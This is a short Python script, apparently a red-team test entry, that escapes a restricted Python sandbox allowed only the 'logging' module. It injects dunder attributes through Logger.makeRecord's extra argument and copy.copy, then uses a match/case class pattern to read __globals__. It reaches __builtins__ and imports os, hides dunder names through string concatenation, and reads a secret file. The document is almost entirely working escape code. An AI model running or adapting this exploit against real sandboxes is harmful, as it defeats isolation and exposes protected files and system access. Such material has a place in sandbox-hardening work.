# family: red team, round 10 (logging_makerecord_extra_dunder)
# Needs the "logging" permission. Logger.makeRecord(..., extra=d) copies every key of d into the record's
# __dict__ (any string): a run-time __reduce_ex__ lands on the instance; copy.copy() then setattr()s run-time
# names on a class with written __match_args__, and a class pattern reads __globals__.
import abc
import copy
import logging


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    logger = logging.getLogger("rt")
    record = logger.makeRecord("rt", 10, "f", 1, "m", None, None, extra={_d("reduce_ex"): reducer})
    copy.copy(record)


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
